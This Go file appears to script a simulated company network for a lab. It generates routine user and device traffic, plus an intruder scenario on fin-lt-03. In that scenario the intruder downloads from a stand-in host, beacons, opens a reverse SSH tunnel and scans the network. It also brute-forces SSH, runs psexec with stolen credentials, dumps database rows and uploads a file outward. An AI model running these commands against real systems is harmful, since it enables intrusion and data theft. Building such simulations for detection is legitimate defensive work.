package main

import (
	"fmt"
	"strings"
)

// day is the demo: a slice of a working day. Maria works with files, mail and
// the web on fin-lt-03; Jonas develops on dev-ws-07; Anna looks after devices
// from adm-ws-01; sensor-11 reports. A helper that was fetched from
// cdn-sync.example keeps a reverse tunnel open on fin-lt-03, and somebody at
// its far end goes from there to db-2.
func (l *lab) day() {
	actors(l.maria, l.jonas, l.anna, l.background, l.intruder)
}

// typed is a script that runs a program on a terminal, logs in if it asks for
// a password, and types lines as a person does; want must appear after the last.
func typed(program, password, prompt string, lines ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "expect <<'END_OF_TYPING'\nset timeout 60\nset send_human {.08 .2 1.5 .03 .7}\nspawn -noecho %s\n", program)
	if password != "" {
		fmt.Fprintf(&b, "expect -re {assword: ?$}\nsleep 1\nsend -h -- {%s}\nsend \"\\r\"\n", password)
	}
	for i, line := range lines {
		fmt.Fprintf(&b, "expect -re {%s} {} timeout {puts NOPROMPT; exit 1}\nsleep %.1f\nsend -h -- {%s}\nsend \"\\r\"\n",
			prompt, 0.7+float64(i*7%5)*0.35, line)
	}
	b.WriteString("expect eof\nEND_OF_TYPING")
	return b.String()
}

const (
	sshOptions  = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1"
	shellPrompt = `([$#] (\x1b\[K)?|assword: )$`
)

func (l *lab) maria() {
	const h = "fin-lt-03"
	l.do(
		step{h, "dhcp-udhcpc", `cat >$S/lease.sh <<-'END'
				#!/bin/sh
				[ "$1" = bound ] || exit 0
				ip addr add $ip/16 dev $interface
				ip route replace default via $router
				echo bound to $ip
			END
			chmod +x $S/lease.sh
			udhcpc -f -q -n -i eth0 -x hostname:fin-lt-03 -s $S/lease.sh`, "bound to 10.20.3.17"},
		step{h, "ntp", "chronyd -x -Q -t 12 'server 10.20.0.10 iburst' 2>&1", "System clock wrong by"},
		step{h, "nbns", "nmblookup -s $S/srv-file-1/smb.conf --option='interfaces=eth0' -B 10.20.255.255 SRV-FILE-1", "10.20.0.20 SRV-FILE-1"},
		step{h, "mdns", `/usr/bin/python3 - <<-'END'
				import socket
				s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
				s.bind(("", 5353))
				s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + socket.inet_aton("10.20.3.17"))
				s.settimeout(5)
				s.sendto(b"\0\0\0\0\0\1\0\0\0\0\0\0\x09srv-web-1\x05local\0\0\1\0\1", ("224.0.0.251", 5353))
				while True:
				    answer = s.recv(1500).hex()
				    if "0a140028" in answer:
				        break
				print(answer)
			END`, "0a140028"},
		step{h, "llmnr", "dig +noedns +norec +time=1 +tries=2 @224.0.0.252 -p 5355 fin-prn-2; true", "timed out|no servers"},
		step{h, "kinit-failed", "echo 'harvest-moon' | kinit m.ortiz", "(?i)incorrect|preauth"},
		step{h, "kinit", "echo '" + ortizPassword + "' | kinit m.ortiz && klist", "krbtgt/" + realm},
		step{h, "smb-kerberos", "smbclient //srv-file-1.corp.example/finance --use-kerberos=required --use-krb5-ccache=$KRB5CCNAME -c 'ls; get forecast.csv /dev/stdout; put /etc/protocols notes.txt'", "Q2,1377"},
		step{h, "ldap-gssapi", "ldapsearch -N -Q -Y GSSAPI -H ldap://dc1.corp.example -b DC=corp,DC=example '(sAMAccountName=j.lind)' mail", "j.lind@example.org"},
		step{h, "web-tls13", "curl -sS --cacert $S/ca.crt https://www.example.com/ https://www.example.com/stock", "chair 9"},
		step{h, "web-redirect", "curl -sS -i -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' http://www.example.com/old", "301 Moved"},
	)
	pause(3)
	l.do(
		step{h, "tls-expired", "wget -qO- --no-check-certificate https://partner.example.net/", "Example shop"},
		step{h, "http-basic", "curl -sS -u 'm.ortiz:" + ortizPassword + "' http://intranet.corp.example/admin/index.html", "Lunch menu"},
		step{h, "smtp-starttls", "printf 'From: m.ortiz@example.org\\r\\nTo: m.ortiz@example.org\\r\\nSubject: Q3 forecast\\r\\n\\r\\nSee the share.\\r\\n' | curl -sS -v --ssl-reqd --cacert $S/ca.crt --mail-from m.ortiz@example.org --mail-rcpt m.ortiz@example.org -T - smtp://mail.example.org/fin-lt-03.corp.example 2>&1", "Ok: queued"},
		step{h, "smtp-auth", "swaks --server mail.example.org --auth PLAIN --auth-user m.ortiz --auth-password '" + ortizPassword + "' --from m.ortiz@example.org --to m.ortiz@example.org --header 'Subject: Lunch' --body 'Soup today?'", "250 2.0.0 Ok: queued"},
		step{h, "imap-starttls", "curl -sS --ssl-reqd --cacert $S/ca.crt -u 'm.ortiz:" + ortizPassword + "' 'imap://mail.example.org/INBOX;MAILINDEX=1'", "Subject: "},
		step{h, "pop3", "curl -sS -u 'm.ortiz:" + ortizPassword + "' 'pop3://mail.example.org/1'", "Subject: "},
		step{h, "smb-ntlm-failed", `smbclient //10.20.0.20/finance -U 'CORP\m.ortiz%autumn-sun' -c ls; true`, "NT_STATUS_LOGON_FAILURE"},
		step{h, "smb-ntlm", `smbclient //10.20.0.20/finance -U 'CORP\m.ortiz%` + ortizPassword + `' -c 'get ledger-2024.txt /dev/null; rename notes.txt old.txt; del old.txt; ls'`, "ledger-2024"},
	)
}

func (l *lab) jonas() {
	const h = "dev-ws-07"
	l.do(
		step{h, "dhcp-dhclient", `cat >$S/dhclient.conf <<-END
				send host-name "dev-ws-07";
				request subnet-mask, routers, domain-name-servers;
			END
			cat >$S/dhclient.sh <<-'END'
				#!/bin/sh
				case $reason in BOUND|REBOOT) ip addr add $new_ip_address/16 dev $interface; ip route replace default via $new_routers; echo bound to $new_ip_address;; esac
				exit 0
			END
			chmod +x $S/dhclient.sh
			dhclient -d -1 -4 -cf $S/dhclient.conf -sf $S/dhclient.sh -lf $S/dhclient.leases -pf $S/dhclient.pid eth0 & dh=$!
			for i in $(seq 100); do ip addr show eth0 | grep -q 10.20.3 && break; sleep 0.1; done
			kill $dh; wait $dh; ip addr show eth0`, "inet 10.20.3.42"},
		step{h, "http3", "$S/record get-http3 198.51.100.80:443 www.example.com $S/ca.crt / /cart /help", "h3 page /help"},
		step{h, "git", "git -c protocol.version=2 clone -q git://git.example.com/shop.git /run/lab/tmp/clone && cat /run/lab/tmp/clone/main.py", "print"},
		step{h, "dot", "kdig +short +tls @192.0.2.53 git.example.com mail.example.org", "198.51.100.80"},
		step{h, "doh", "kdig +short +https @192.0.2.53 www.example.com", "198.51.100.80"},
		step{h, "dns", "dig +short www.example.com; dig +short MX example.org; dig +short -x 203.0.113.9; dig +short TXT nothing.example.com; dig +short AAAA www.example.com", "2001:db8:80::80"},
		step{h, "psql", "PGPASSWORD='" + lindPassword + "' psql 'host=db-2.corp.example user=jlind dbname=crm sslmode=disable' -c 'select city, count(*) from customer group by city order by 1' -c 'select * from absent'", "Porto"},
		step{h, "psql-tls", "PGPASSWORD='" + lindPassword + "' psql 'host=db-2.corp.example user=jlind dbname=crm sslmode=require' -Atc 'select count(*) from customer'", "40"},
		step{h, "redis", "export REDISCLI_AUTH=" + backupPassword + "; for c in 'set cart:17 lamp' 'get cart:17' nosuch; do redis-cli -h db-2.corp.example $c; done; REDISCLI_AUTH=wrong redis-cli -h db-2.corp.example keys '*'", "(?s)lamp.*unknown command.*WRONGPASS"},
		step{h, "mysql", "mariadb -h db-2.corp.example -u shopapp -p" + backupPassword + " --skip-ssl shop -e 'select * from orders; select * from absent'", "chair"},
		step{h, "ssh-shell", typed("ssh "+sshOptions+" j.lind@db-2.corp.example", lindPassword, shellPrompt,
			"hostname", "ls -la", "df -h /", "echo checking backups", "uptime", "exit"), "checking backups"},
		step{h, "scp", "head -c 4000 /dev/urandom >/run/lab/tmp/build.tar.gz; sshpass -p '" + lindPassword + "' scp -P 2222 " + sshOptions + " /run/lab/tmp/build.tar.gz j.lind@srv-web-1.corp.example: && echo copied $?", "copied 0"},
		step{h, "sftp", "sshpass -p '" + lindPassword + "' sftp -P 2222 " + sshOptions + " j.lind@srv-web-1.corp.example <<<$'ls -l\\nget build.tar.gz /dev/null\\n'", "build.tar.gz"},
		step{h, "http2-cleartext", "curl -sS --http2-prior-knowledge http://198.51.100.80:8081/ -H 'Host: www.example.com'", "Example shop"},
		step{h, "http-ipv6", "curl -sS -6 http://www.example.com/", "Example shop"},
		step{h, "tls-client-cert", "curl -sS --cacert $S/ca.crt --cert $S/client.vpn.example.net.crt --key $S/client.vpn.example.net.key https://intranet.corp.example/", "Lunch menu"},
		step{h, "wireguard", `wg set tyto-wgc private-key $S/dev-ws-07/wg.key peer $(wg pubkey <$S/vpn/wg.key) endpoint 192.0.2.77:51820 allowed-ips 172.16.9.0/24
			ip addr add 172.16.9.2/24 dev tyto-wgc; ip link set tyto-wgc up mtu 1420
			curl -sS http://172.16.9.1/stock.txt; ping -qc 3 172.16.9.1; ip link set tyto-wgc down`, "40 lamps"},
	)
}

func (l *lab) anna() {
	const h = "adm-ws-01"
	pause(6)
	l.do(
		step{h, "icmp", "ping -c 3 sw-core-1.corp.example; traceroute -n -q 1 -m 3 198.51.100.80", "2  198.51.100.80"},
		step{h, "telnet", typed("telnet 10.20.0.2", "", `(login: |[Pp]assword: |[$#] )$`, "a.kowal", kowalPassword, "hostname", "ip -br addr", "exit"), "10.20.0.2/16"},
		step{h, "snmp-v2c", "snmpwalk -v2c -c lab-ro 10.20.0.2 1.3.6.1.2.1.1; snmpget -v2c -c lab-ro 10.20.0.2 1.3.6.1.2.1.2.2.1.2.1", "Rack 2"},
		step{h, "snmp-v3", "snmpget -v3 -l authPriv -u monitor -a SHA -A '" + kowalPassword + "' -x AES -X '" + kowalPassword + "' 10.20.0.2 1.3.6.1.2.1.1.5.0", "sw-core-1"},
		step{h, "ftp", "curl -sS -u 'a.kowal:" + kowalPassword + "' ftp://srv-web-1.corp.example/profile.txt; curl -sS -P - -u 'a.kowal:" + kowalPassword + "' ftp://srv-web-1.corp.example/; curl -sS -u 'a.kowal:wrong' ftp://srv-web-1.corp.example/ 2>&1", "(?s)Scanner profile.*profile.txt.*denied"},
		step{h, "tftp", "curl -sS tftp://10.20.0.40/sw-core-1.cfg", "vlan 20"},
		step{h, "tls-self-signed", "curl -ksS --resolve nas.local:9443:10.20.0.40 https://nas.local:9443/", "Lunch menu"},
		step{h, "ssh-dropbear", "sshpass -p '" + kowalPassword + "' ssh " + sshOptions + " a.kowal@sw-core-1.corp.example 'hostname; ip -br link'", "sw-core-1"},
		step{h, "gre", "curl -sS http://172.16.6.1/stock.txt; ping -qc 2 172.16.6.1", "40 lamps"},
		step{h, "rpc-admin", `rpcclient -U 'CORP\a.kowal%` + kowalPassword + `' 10.20.0.20 -c 'srvinfo; netshareenum; enumdomusers'`, "finance"},
		step{h, "openvpn", `timeout -s INT 14 openvpn --client --dev tun8 --proto udp --remote vpn.example.net 1194 --nobind --ca $S/ca.crt --cert $S/client.vpn.example.net.crt --key $S/client.vpn.example.net.key --verb 1 >$S/adm-ws-01/openvpn.log 2>&1 & vpn=$!
			for i in $(seq 80); do ip addr show tun8 2>/dev/null | grep -q 172.16.8 && break; sleep 0.1; done
			curl -sS http://172.16.8.1/stock.txt; ping -qc 2 172.16.8.1; wait $vpn`, "40 lamps"},
		step{h, "vxlan", ": prepared on both servers", ""},
		step{"srv-web-1", "vxlan-traffic", "dig +short @172.16.5.1 pod-7.cluster.example; ping -qc 2 172.16.5.2; redis-cli -h 172.16.5.2 -a " + backupPassword + " ping 2>/dev/null", "PONG"},
		step{"db-2", "vxlan-dns", "dig +short @172.16.5.1 pod-7.cluster.example; curl -sS -H 'Host: intranet.corp.example' http://172.16.5.1/", "(?s)172.16.5.2.*Lunch"},
	)
}

// background is what machines do on their own.
func (l *lab) background() {
	const h = "sensor-11"
	pause(4)
	actors(func() {
		l.do(step{"srv-web-1", "mqtt-subscribe", "mosquitto_sub -h 10.20.0.40 -i collector -u sensor-11 -P " + backupPassword + " -t 'plant/#' -C 6 -W 90", "21.5"})
	}, func() {
		for i := range 6 {
			l.do(step{h, fmt.Sprintf("mqtt-%d", i+1), fmt.Sprintf("mosquitto_pub -h srv-web-1.corp.example -i sensor-11 -u sensor-11 -P %s -q 1 -t plant/hall-2/temperature -m 21.%d && echo sent", backupPassword, 3+i), "sent"})
			l.do(step{h, fmt.Sprintf("syslog-%d", i+1), fmt.Sprintf("logger -d -n 10.20.0.40 -P 514 --rfc5424=notq,notime -t sensord 'temperature 21.%d' && echo sent", 3+i), "sent"})
			pause(9)
		}
	})
}

// intruder fetches a helper on fin-lt-03, holds a reverse tunnel open, and
// types into a shell at the end of it.
func (l *lab) intruder() {
	const h = "fin-lt-03"
	pause(16)
	l.do(step{h, "download", "curl -sS -A 'sync-agent/1.4' http://cdn-sync.example/updates/sync-helper.sh", "#!/bin/sh"})
	beacon := func() {
		for i := range 7 {
			l.do(step{h, fmt.Sprintf("beacon-%d", i+1), "curl -ksS -A 'sync-agent/1.4' -d 'id=fin-lt-03&seq=" + fmt.Sprint(i) + "' https://api.cdn-sync.example:8443/v1/checkin", `"task":"none"`})
			pause(11)
		}
	}
	tunnel := func() {
		l.do(step{h, "reverse-tunnel", "sshpass -p '" + backupPassword + "' ssh -N -p 443 " + sshOptions + ` -o ExitOnForwardFailure=yes -R 2222:127.0.0.1:22 svc-backup@cdn-sync.example & ssh=$!
			for i in $(seq 280); do test -e $S/fin-lt-03/left && break; sleep 0.5; done
			sleep 2; kill -0 $ssh && kill $ssh && echo held until the end`, "held until the end"})
	}
	hands := func() {
		pause(5)
		l.do(step{"cdn-sync", "hands-on", typed("ssh -p 2222 "+sshOptions+" root@127.0.0.1", adminPassword, shellPrompt,
			"id; hostname",
			"nmap -n -sS -Pn -p 22,80,443,445,3306,3389,5432,6379 10.20.0.2,10,20,32,40,77 | grep open",
			"hydra -I -t 3 -l svc-backup -P words ssh://10.20.0.32",
			"./psexec.py -file svc.exe corp.example/a.kowal:"+kowalPassword+"@10.20.0.20",
			"ssh svc-backup@10.20.0.32",
			"backup2019",
			"hostname; uptime",
			"psql -h 10.20.0.32 -U jlind crm -Atc 'table customer' | head -5",
			"exit",
			"curl -ksT c.bin https://api.cdn-sync.example:8443/v1/up",
			"exit") + "\ntouch $S/fin-lt-03/left", "(?s)uid=0.*22/tcp +open.*password: .{0,9}backup2019.*Opening SVCManager.*Customer 1.*task"})
	}
	actors(beacon, tunnel, hands)
}
